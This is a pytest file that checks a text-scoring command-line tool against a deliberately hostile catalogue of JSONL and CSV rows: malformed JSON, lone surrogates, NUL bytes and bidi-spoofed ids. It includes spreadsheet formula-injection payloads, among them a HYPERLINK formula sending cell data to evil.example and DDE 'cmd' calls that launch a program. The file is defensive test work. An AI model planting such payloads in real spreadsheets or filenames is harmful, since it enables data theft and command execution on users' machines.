"""`withyou score` against a hostile catalogue: every row — however broken — is scored or rejected with a reason,
exactly once, the run exits 0, no CSV cell can run as a formula, and `--resume` refuses any file it did not write.

The catalogue is generated here (`jsonl_catalogue`, `csv_catalogue`); benchmarks/hostile_score.py writes the same
files and prints what became of each row.
"""

from __future__ import annotations

import codecs
import csv
import io
import json
import os
import shutil
import subprocess
import sys
from dataclasses import dataclass
from pathlib import Path

import pytest
from typer.testing import CliRunner

from orchestration import score_io
from orchestration.cli import app
from tests.components import import_or_missing, missing_component
from withyou.integrity import record_checksums

SECRET = "a post that must never leave the input file"
TEXT = f"I told my manager and nothing happened, {SECRET}"
SCORED = "scored"
FORMULA_IDS = [
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "'=already quoted",
]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


@dataclass
class Case:
    """One row of the catalogue: its line(s) in the file, the id it has in the output if scored, and what must
    become of it — SCORED, or the start of its reject reason."""

    kind: str
    line: bytes
    id: str | None
    expect: str


def _json(value: object) -> bytes:
    return json.dumps(value).encode("ascii") + b"\n"  # ASCII: a lone surrogate stays a "\ud800" escape


def jsonl_catalogue() -> list[Case]:
    def post(kind: str, expect: str = SCORED, **fields: object) -> Case:
        record = {"id": kind, "text": TEXT} | fields
        return Case(kind, _json(record), record["id"] if isinstance(record["id"], str) else None, expect)

    deep_field = b'{"id": "deep-field", "text": "x", "meta": ' + b"[" * 100_000 + b"]" * 100_000 + b"}\n"
    return [
        Case("BOM opening the file", codecs.BOM_UTF8 + _json({"id": "bom", "text": TEXT}), "bom", SCORED),
        post("plain"),
        Case("CRLF line end", _json({"id": "crlf", "text": TEXT})[:-1] + b"\r\n", "crlf", SCORED),
        post("lone high surrogate in text", "text has a lone surrogate", text=TEXT + " \ud800"),
        post("lone low surrogate in text", "text has a lone surrogate", text="\udc00" + TEXT),
        post("lone surrogate in id", "id has a control or invisible character", id="id-\ud800"),
        post("lone surrogate in parent", "parent_text has a lone surrogate", parent_text="reply \udbff"),
        post("surrogate pair (emoji) in text", text=TEXT + " \U0001f600"),
        Case("100,000 nested [", b"[" * 100_000 + b"\n", None, "malformed JSON (nested too deeply)"),
        Case("100,000 nested [ in a field", deep_field, None, "malformed JSON (nested too deeply)"),
        Case("huge single line", _json({"id": "huge-line", "text": "x" * score_io.LINE_LIMIT}), None, "a line over"),
        post("over-long text", "text is 5001 characters", text="x" * 5001),
        post("over-long parent", "parent_text is 5001 characters", parent_text="x" * 5001),
        Case("raw NUL byte in the line", b'{"id": "nul-raw", "text": "a\x00b"}\n', None, "malformed JSON"),
        post("NUL in text", text=TEXT + "\x00"),
        post("NUL in id", "id has a control or invisible character", id="nul\x00id"),
        Case("invalid UTF-8", b'{"id": "bad-utf8", "text": "caf\xe9 \xff"}\n', None, "not valid UTF-8"),
        Case("UTF-8-encoded surrogate", b'{"id": "cesu", "text": "a \xed\xa0\x80"}\n', None, "not valid UTF-8"),
        post("id int", "id must be a string, got int", id=5),
        post("id float", "id must be a string, got float", id=5.5),
        post("id bool", "id must be a string, got bool", id=True),
        post("id null", "missing id", id=None),
        post("id list", "id must be a string, got list", id=["a"]),
        post("id whitespace", "missing id", id="   "),
        post("text number", "text must be a string, got int", text=42),
        post("text NaN", "text must be a string, got float", text=float("nan")),
        post("text list", "text must be a string, got list", text=["a"]),
        post("text object", "text must be a string, got dict", text={"a": 1}),
        post("parent number", "parent_text must be a string, got int", parent_text=7),
        Case("missing id", _json({"text": TEXT}), None, "missing id"),
        Case("missing text", _json({"id": "no-text"}), None, "missing text"),
        Case("duplicate id", _json({"id": "plain", "text": TEXT}), None, "duplicate id"),
        post("empty text", "text is empty or whitespace", text=""),
        post("whitespace text", "text is empty or whitespace", text=" \t\n\u3000 "),
        *(post(f"formula id {formula}", id=formula) for formula in FORMULA_IDS),
        post("tab-formula id", "id has a control or invisible character", id="\t=1+1"),
        post("CR-formula id", "id has a control or invisible character", id="\r=1+1"),
        post("bidi override in id", "id has a control or invisible character", id="invoice\u202efdp.exe"),
        post("zero-width space in id", "id has a control or invisible character", id="zw\u200bid"),
        post("bidi characters in text", text="\u202e" + TEXT + "\u200b"),
        Case("JSON array", b"[1, 2]\n", None, "expected a JSON object, got list"),
        Case("JSON string", b'"a string"\n', None, "expected a JSON object, got str"),
        Case("JSON number", b"42\n", None, "expected a JSON object, got int"),
        Case("JSON null", b"null\n", None, "expected a JSON object, got NoneType"),
        Case("trailing garbage", _json({"id": "trailing", "text": TEXT})[:-1] + b" trailing\n", None, "malformed JSON"),
        Case("unclosed JSON string", b'{"id": "cut", "text": "I told\n', None, "malformed JSON"),
        Case("5,000-digit number", b'{"id": "digits", "text": "x", "n": ' + b"9" * 5000 + b"}\n", None,
             "malformed JSON (a number with too many digits)"),
        post("last plain"),
    ]


def _csv(*fields: str) -> bytes:
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\n").writerow(fields)
    return buffer.getvalue().encode("utf-8", errors="surrogatepass")  # a surrogate becomes its 3 (invalid) bytes


def csv_catalogue() -> list[Case]:
    def post(kind: str, expect: str = SCORED, id: str | None = None, text: str = TEXT, parent: str = "") -> Case:
        item_id = kind if id is None else id
        return Case(kind, _csv(item_id, text, parent), item_id, expect)

    return [
        post("BOM opening the file (before the header)", id="bom"),
        post("plain"),
        Case("CRLF line end", _csv("crlf", TEXT, "")[:-1] + b"\r\n", "crlf", SCORED),
        post("lone high surrogate in text", "not valid UTF-8", text=TEXT + " \ud800"),
        post("lone low surrogate in text", "not valid UTF-8", text="\udc00" + TEXT),
        post("lone surrogate in id", "not valid UTF-8", id="id-\ud800"),
        post("lone surrogate in parent", "not valid UTF-8", parent="reply \udbff"),
        post("surrogate pair (emoji) in text", text=TEXT + " \U0001f600"),
        Case("invalid UTF-8", b"bad-utf8,caf\xe9 \xff,\n", None, "not valid UTF-8"),
        post("100,000 [ as a text", "text is 100000 characters", text="[" * 100_000),
        post("huge single line", "broken CSV record", text="x" * score_io.LINE_LIMIT),
        post("over-long text", "text is 5001 characters", text="x" * 5001),
        post("NUL in text", text=TEXT + "\x00"),
        post("NUL in id", "id has a control or invisible character", id="nul\x00id"),
        post("post with a line break (quoted)", text="first line\nsecond line, with a comma"),
        Case("unclosed quote", b'unclosed,"I told them and\n', None, "broken CSV record"),
        post("row after the unclosed quote"),
        Case("extra column", _csv("extra", TEXT, "", "surplus"), None, "record has 4 fields, the header has 3"),
        Case("missing column", _csv("missing-column", TEXT), None, "record has 2 fields, the header has 3"),
        post("missing id", "missing id", id=""),
        post("missing text", "missing text", text=""),
        post("whitespace text", "text is empty or whitespace", text=" \t "),
        post("duplicate id", "duplicate id", id="plain"),
        post("integer-looking id", id="5"),
        Case("text after a closing quote", b'after-quote,"quoted"tail,\n', None, "broken CSV record"),
        Case("bare CR in an unquoted field", b"bare-cr,abc\rdef,\n", None, "broken CSV record"),
        *(post(f"formula id {formula}", id=formula) for formula in FORMULA_IDS),
        post("tab-formula id", "id has a control or invisible character", id="\t=1+1"),
        post("bidi override in id", "id has a control or invisible character", id="invoice\u202efdp.exe"),
        post("zero-width space in id", "id has a control or invisible character", id="zw\u200bid"),
        post("bidi characters in text", text="\u202e" + TEXT + "\u200b"),
        post("last plain"),
        Case("unclosed quote at the end of the file", b'unclosed-end,"I told them and\n', None, "broken CSV record"),
    ]


def write_catalogue(directory: Path, fmt: str) -> tuple[Path, list[Case]]:
    """The catalogue of `fmt` ("jsonl" or "csv") written to DIRECTORY/hostile.FMT; row N of the file is case N."""
    cases = jsonl_catalogue() if fmt == "jsonl" else csv_catalogue()
    head = codecs.BOM_UTF8 + b"id,text,parent_text\n" if fmt == "csv" else b""
    path = Path(directory) / f"hostile.{fmt}"
    path.write_bytes(head + b"".join(case.line for case in cases))
    return path, cases


def output_ids(output: Path) -> list[str]:
    if output.suffix == ".csv":
        with open(output, encoding="utf-8", newline="") as handle:
            return [score_io.from_csv_cell(record["id"]) for record in csv.DictReader(handle)]
    return [json.loads(line)["id"] for line in output.read_text(encoding="utf-8").splitlines()]


def outcomes(cases: list[Case], output: Path, rejects: Path) -> list[tuple[Case, str]]:
    """What became of each case: SCORED or its reject reason. Asserts that every row is accounted for exactly
    once: rejected rows by row number, and the output holds exactly the other rows' ids, in input order."""
    reasons: dict[int, str] = {}
    for reject in (json.loads(line) for line in rejects.read_text(encoding="utf-8").splitlines()):
        assert reject["row"] not in reasons, f"row {reject['row']} rejected twice"
        assert reject["reason"], f"row {reject['row']} rejected without a reason"
        reasons[reject["row"]] = reject["reason"]
    assert set(reasons) <= set(range(1, len(cases) + 1)), "a reject names a row the catalogue does not have"
    scored = [case.id for row, case in enumerate(cases, start=1) if row not in reasons]
    assert output_ids(output) == scored, "the output is not exactly the rows not rejected, once each, in order"
    return [(case, reasons.get(row, SCORED)) for row, case in enumerate(cases, start=1)]


def score(*args: str) -> object:
    return CliRunner().invoke(app, ["score", *args, "--no-progress"], catch_exceptions=False)


@pytest.mark.parametrize("out_suffix", [".csv", ".jsonl"])
@pytest.mark.parametrize("fmt", ["jsonl", "csv"])
def test_every_hostile_row_is_scored_or_rejected_exactly_once(tiny_random_bundle, tmp_path, fmt, out_suffix):
    source, cases = write_catalogue(tmp_path, fmt)
    output = tmp_path / f"out{out_suffix}"
    result = score(str(source), "-o", str(output), "--bundle", str(tiny_random_bundle), "--chunk-rows", "7")
    assert result.exit_code == 0, result.output
    assert "Traceback" not in result.output

    rejects = Path(f"{output}.rejects.jsonl")
    wrong = [(case.kind, what) for case, what in outcomes(cases, output, rejects) if not what.startswith(case.expect)]
    assert wrong == []
    for path in (output, rejects, Path(f"{output}.summary.json")):
        assert SECRET.encode() not in path.read_bytes()
    assert SECRET not in result.output


@pytest.mark.parametrize("fmt", ["jsonl", "csv"])
def test_no_output_csv_cell_can_run_as_a_formula(tiny_random_bundle, tmp_path, fmt):
    source, _ = write_catalogue(tmp_path, fmt)
    output = tmp_path / "out.csv"
    assert score(str(source), "-o", str(output), "--bundle", str(tiny_random_bundle)).exit_code == 0

    raw = output.read_bytes()
    assert b"\x00" not in raw
    with open(output, encoding="utf-8", newline="") as handle:
        cells = [cell for record in csv.reader(handle) for cell in record]
    assert [cell for cell in cells if cell.startswith(FORMULA_START)] == []
    assert set(FORMULA_IDS) <= set(output_ids(output))  # neutralised, not lost: from_csv_cell gives the id back


def test_formula_ids_are_quoted_in_csv_and_read_back_by_resume(tiny_random_bundle, tmp_path):
    rows = [{"id": formula, "text": TEXT} for formula in FORMULA_IDS]
    source, output = tmp_path / "in.jsonl", tmp_path / "out.csv"
    source.write_bytes(b"".join(_json(row) for row in rows))
    assert score(str(source), "-o", str(output), "--bundle", str(tiny_random_bundle), "--limit", "3").exit_code == 0

    result = score(str(source), "-o", str(output), "--bundle", str(tiny_random_bundle), "--resume")
    assert result.exit_code == 0, result.output
    with open(output, encoding="utf-8", newline="") as handle:
        assert [record["id"] for record in csv.DictReader(handle)] == ["'" + formula for formula in FORMULA_IDS]
    assert output_ids(output) == FORMULA_IDS
    assert "skipped 3 already done" in result.output


def test_resume_after_a_lone_surrogate_row_finishes_and_rejects_it_once(tiny_random_bundle, tmp_path):
    rows = [{"id": f"p{i}", "text": f"{TEXT} #{i}"} for i in range(6)]
    rows[2] = {"id": "x", "text": "abc \ud800"}
    source, output = tmp_path / "in.jsonl", tmp_path / "out.jsonl"
    source.write_bytes(b"".join(_json(row) for row in rows))
    first = score(str(source), "-o", str(output), "--bundle", str(tiny_random_bundle), "--limit", "4")
    assert first.exit_code == 0, first.output

    result = score(str(source), "-o", str(output), "--bundle", str(tiny_random_bundle), "--resume")
    assert result.exit_code == 0, result.output
    assert output_ids(output) == ["p0", "p1", "p3", "p4", "p5"]
    rejects = [json.loads(line) for line in Path(f"{output}.rejects.jsonl").read_text().splitlines()]
    reason = "text has a lone surrogate (U+D800 at character 5), which is no text"
    assert rejects == [{"row": 3, "id": "x", "reason": reason}]


@pytest.mark.parametrize("target", ["output", "rejects"])
def test_resume_refuses_a_notes_file_and_leaves_it_byte_for_byte(tiny_random_bundle, tmp_path, target):
    source = tmp_path / "in.jsonl"
    source.write_bytes(_json({"id": "a", "text": TEXT}))
    notes = tmp_path / "notes.jsonl"
    notes.write_bytes(b"my notes, line 1\r\nline 2 has no newline")
    before = notes.read_bytes()
    output = notes if target == "output" else tmp_path / "out.jsonl"
    result = score(str(source), "-o", str(output), "--bundle", str(tiny_random_bundle), "--resume",
                   *(["--rejects", str(notes)] if target == "rejects" else []))  # fmt: skip

    assert result.exit_code == 2
    assert result.output.count("\n") == 1 and "left as it is" in result.output
    assert notes.read_bytes() == before


def test_a_run_without_resume_does_not_delete_a_rejects_path_that_is_not_a_rejects_file(tiny_random_bundle, tmp_path):
    source, notes = tmp_path / "in.jsonl", tmp_path / "notes.txt"
    source.write_bytes(_json({"id": "a", "text": TEXT}))
    notes.write_bytes(b"my notes\n")
    result = score(str(source), "-o", str(tmp_path / "out.jsonl"), "--bundle", str(tiny_random_bundle),
                   "--rejects", str(notes))  # fmt: skip
    assert result.exit_code == 2 and "not a WithYou rejects file" in result.output
    assert notes.read_bytes() == b"my notes\n"


@pytest.fixture(scope="module")
def other_version_bundle(tiny_random_bundle, tmp_path_factory) -> Path:
    bundle = tmp_path_factory.mktemp("other_version") / "bundle"
    shutil.copytree(tiny_random_bundle, bundle)
    metadata = json.loads((bundle / "metadata.json").read_text())
    (bundle / "metadata.json").write_text(json.dumps(metadata | {"model_version": "tiny-other"}))
    record_checksums(bundle)
    return bundle


@pytest.mark.parametrize("suffix", [".jsonl", ".csv", ".parquet"])
def test_resume_refuses_another_model_versions_output(tiny_random_bundle, other_version_bundle, tmp_path, suffix):
    source, output = tmp_path / "in.jsonl", tmp_path / f"out{suffix}"
    source.write_bytes(b"".join(_json({"id": f"p{i}", "text": TEXT}) for i in range(4)))
    assert score(str(source), "-o", str(output), "--bundle", str(tiny_random_bundle), "--limit", "2").exit_code == 0
    before = sorted((p.name, p.read_bytes()) for p in output.iterdir()) if output.is_dir() else output.read_bytes()

    result = score(str(source), "-o", str(output), "--bundle", str(other_version_bundle), "--resume")
    assert result.exit_code == 2
    assert "model version 'tiny-bert'" in result.output and "'tiny-other'" in result.output
    after = sorted((p.name, p.read_bytes()) for p in output.iterdir()) if output.is_dir() else output.read_bytes()
    assert after == before


def test_resume_refuses_a_csv_with_another_header(tiny_random_bundle, tmp_path):
    source, output = tmp_path / "in.jsonl", tmp_path / "out.csv"
    source.write_bytes(_json({"id": "a", "text": TEXT}))
    output.write_bytes(b"post,score\r\n1,2\r\n3,")
    result = score(str(source), "-o", str(output), "--bundle", str(tiny_random_bundle), "--resume")
    assert result.exit_code == 2 and "header" in result.output and "Traceback" not in result.output
    assert output.read_bytes() == b"post,score\r\n1,2\r\n3,"


def test_resume_refuses_a_parquet_directory_holding_other_files(tiny_random_bundle, tmp_path):
    source, output = tmp_path / "in.jsonl", tmp_path / "out.parquet"
    source.write_bytes(_json({"id": "a", "text": TEXT}))
    output.mkdir()
    (output / "notes.txt").write_bytes(b"mine")
    (output / "part-00000.parquet.tmp").write_bytes(b"not ours either")
    result = score(str(source), "-o", str(output), "--bundle", str(tiny_random_bundle), "--resume")
    assert result.exit_code == 2
    assert sorted(p.name for p in output.iterdir()) == ["notes.txt", "part-00000.parquet.tmp"]


@pytest.mark.parametrize("suffix", [".jsonl", ".csv"])
def test_resume_cuts_what_a_kill_left_of_a_result_line(tiny_random_bundle, tmp_path, suffix):
    """A guard for the checks above: the partial line a kill -9 leaves is still cut, not refused."""
    source, output = tmp_path / "in.jsonl", tmp_path / f"out{suffix}"
    source.write_bytes(b"".join(_json({"id": f"p{i}", "text": TEXT}) for i in range(5)))
    assert score(str(source), "-o", str(output), "--bundle", str(tiny_random_bundle), "--limit", "2").exit_code == 0
    with open(output, "ab") as handle:
        handle.write(b'{"id": "p2", "la' if suffix == ".jsonl" else b"p2,disclosure,0.25")

    result = score(str(source), "-o", str(output), "--bundle", str(tiny_random_bundle), "--resume")
    assert result.exit_code == 0, result.output
    assert output_ids(output) == [f"p{i}" for i in range(5)]


def test_resume_refuses_a_last_line_that_is_no_start_of_a_result(tiny_random_bundle, tmp_path):
    source, output = tmp_path / "in.jsonl", tmp_path / "out.jsonl"
    source.write_bytes(b"".join(_json({"id": f"p{i}", "text": TEXT}) for i in range(3)))
    assert score(str(source), "-o", str(output), "--bundle", str(tiny_random_bundle), "--limit", "2").exit_code == 0
    with open(output, "ab") as handle:
        handle.write(b"a note someone appended")
    before = output.read_bytes()

    result = score(str(source), "-o", str(output), "--bundle", str(tiny_random_bundle), "--resume")
    assert result.exit_code == 2 and "line 3 is not a result" in result.output
    assert output.read_bytes() == before


def test_spark_engine_csv_cells_cannot_run_as_formulas(tiny_random_bundle, tmp_path):
    """The Spark engine writes its own CSV; it runs in a child process, whose JVM ends with it."""
    import_or_missing("pyspark", "the Spark engine needs the `spark` extra (pip install -e '.[spark]')")
    if not shutil.which("java"):
        missing_component("the Spark engine needs Java 17 (scripts/setup-java.sh)")
    rows = [{"id": formula, "text": TEXT} for formula in [*FORMULA_IDS, " =1+1"]]
    rows += [{"id": "nul\x00id", "text": TEXT}, {"id": "invoice\u202efdp.exe", "text": TEXT}]
    source, output = tmp_path / "in.jsonl", tmp_path / "out.csv"
    source.write_bytes(b"".join(_json(row) for row in rows))
    command = [sys.executable, "-P", "-m", "orchestration.cli", "score", str(source), "-o", str(output),
               "--bundle", str(tiny_random_bundle), "--engine", "spark", "--spark-master", "local[1]",
               "--no-progress"]  # fmt: skip
    env = {**os.environ, "PYTHONPATH": str(Path(__file__).resolve().parents[2])}
    run = subprocess.run(command, env=env, capture_output=True, text=True, timeout=600)
    assert run.returncode == 0, run.stderr[-3000:]

    ids = []
    for part in sorted(output.glob("part-*.csv")):
        with open(part, encoding="utf-8", newline="") as handle:
            records = list(csv.DictReader(handle))
        assert [cell for r in records for cell in r.values() if cell.startswith(FORMULA_START)] == []
        ids += [r["id"] for r in records]
    assert sorted(score_io.from_csv_cell(i) for i in ids) == sorted([*FORMULA_IDS, " =1+1"])
    reasons = [json.loads(line)["reason"] for line in Path(f"{output}.rejects.jsonl").read_text().splitlines()]
    assert reasons == ["id has a control or invisible character"] * 2
